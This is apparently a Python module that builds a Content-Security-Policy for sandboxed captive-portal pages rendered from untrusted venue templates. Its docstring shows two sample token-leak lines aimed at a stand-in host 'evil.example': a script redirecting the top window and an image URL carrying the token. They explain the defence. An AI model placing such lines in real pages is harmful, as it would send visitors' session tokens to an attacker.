"""The Content-Security-Policy of a phone page rendered from a venue's own (untrusted) template.

A venue template runs with the phone's secrets on the page (status link, session token) and on the
same host as the consoles, so its page is a sandboxed, opaque origin that may not:

* run scripts (no ``allow-scripts`` and ``script-src 'none'``): a sandbox flag cannot stop a
  top-level document from navigating *itself*, so ``top.location = "https://evil.example/" + token``
  is only prevented by not running the script at all; Chromium also ignores ``<meta refresh>`` in a
  document sandboxed without ``allow-scripts``;
* navigate the top level without a tap (``allow-top-navigation-by-user-activation`` only: a venue's
  links still work when the visitor follows them);
* load anything from another host (images, styles, fonts, media, fetch/XHR): a resource URL would
  carry the token out (``<img src="https://evil.example/leak?s=…">``);
* post a form anywhere but here and the allow-listed post-login hosts (a form post that our server
  answers with a redirect is checked against ``form-action`` too).

A venue the NOC opted in (``Venue.scripts_allowed``) gets one change: ``allow-scripts`` in the
sandbox and ``script-src 'nonce-…'`` with this response's nonce, which the template engine put on
the inline ``<script>`` tags of the venue's own template text (``ad_pages/script_nonce.py``) —
never on markup that came from data, never on ``<script src>``. Everything else stays: still an
opaque origin (no ``allow-same-origin``: no cookies, storage or same-origin reads of this host),
no fetch/XHR/WebSocket but to this host, no resources or form posts to other hosts, not framed.
What scripts add, and the NOC accepts by opting a venue in: a script can read what its page
shows (the page's ``c`` token, the status link) and navigate the phone itself — see SECURITY.md.

Every venue may keep OUR inline scripts (the resend countdown, the ad and success countdowns of
the shipped templates): a page holding one of them unchanged gets ``allow-scripts`` and
``script-src`` with exactly those scripts' hashes (:func:`shipped_script_sources`), so a
published copy of the default page works while any other script on it stays blocked. Those
scripts only read the page's own elements and post its own form; what ``allow-scripts`` adds
besides is that Chromium honours ``<meta refresh>`` again — a navigation the page could offer
as a link anyway, with no token to carry (``portal.web.phone.late_tokens``).
"""
from __future__ import annotations

import re
import secrets
from collections.abc import Iterable

from ad_pages.loader import shipped_scripts

SANDBOX = ("sandbox allow-forms allow-popups allow-popups-to-escape-sandbox "
           "allow-top-navigation-by-user-activation")
SAME_SITE = "'self' data:"
_NONCE = re.compile(r"^[A-Za-z0-9_\-]{16,64}$")     # secrets.token_urlsafe: nothing to inject
_HASH = re.compile(r"^'sha256-[A-Za-z0-9+/]{43}='$")
_SHIPPED = shipped_scripts()       # at start-up: a shipped script that cannot be hashed stops it


def shipped_script_sources(html: str) -> tuple[str, ...]:
    """The hash sources of the shipped inline scripts a rendered page holds unchanged."""
    return tuple(source for body, source in _SHIPPED.items() if f">{body}</script>" in html)


def script_src(nonce: str = "", hashes: Iterable[str] = ()) -> str:
    """The ``script-src`` sources for a response's nonce and shipped-script hashes ("" = none)."""
    nonce = nonce if _NONCE.match(nonce) else ""
    return " ".join((*((f"'nonce-{nonce}'",) if nonce else ()), *(h for h in hashes if _HASH.match(h))))


def new_nonce() -> str:
    return secrets.token_urlsafe(18)


def _source(host: str) -> str:
    """An allow-list entry (``x.cn`` or ``.x.cn`` = subdomains) as a CSP host source, or ""."""
    host = host.strip().lower()
    if not host or any(not (ch.isalnum() or ch in ".-") for ch in host):
        return ""          # never let a stored value inject another directive
    return f"*{host}" if host.startswith(".") else host


def venue_page_csp(form_hosts: Iterable[str] = (), *, any_form_target: bool = False,
                   script_nonce: str = "", script_hashes: Iterable[str] = ()) -> str:
    """The policy for a venue-rendered page; ``form_hosts`` are the post-login redirect hosts.
    ``any_form_target``: a gateway that grants by redirect (openNDS) is sent the phone after the form
    post, at an address the page cannot know in advance. ``script_nonce``: the response's nonce
    for a venue allowed to run scripts ("" = no script runs). ``script_hashes``: the shipped
    scripts the page holds (:func:`shipped_script_sources`), which run on any venue's page."""
    form = " ".join(s for s in ("'self'", *(_source(h) for h in form_hosts)) if s)
    scripts = script_src(script_nonce, script_hashes)
    return "; ".join((
        f"{SANDBOX} allow-scripts" if scripts else SANDBOX,
        "default-src 'none'",
        "script-src " + (scripts or "'none'"),
        f"img-src {SAME_SITE}",
        f"style-src {SAME_SITE} 'unsafe-inline'",
        f"font-src {SAME_SITE}",
        f"media-src {SAME_SITE}",
        "connect-src 'self'",
        "base-uri 'none'",
        "object-src 'none'",
        "frame-src 'none'",
        *(() if any_form_target else (f"form-action {form}",)),
        "frame-ancestors 'none'",
    ))


VENUE_PAGE_CSP = venue_page_csp()
"""The policy with no post-login host (tests and documentation)."""
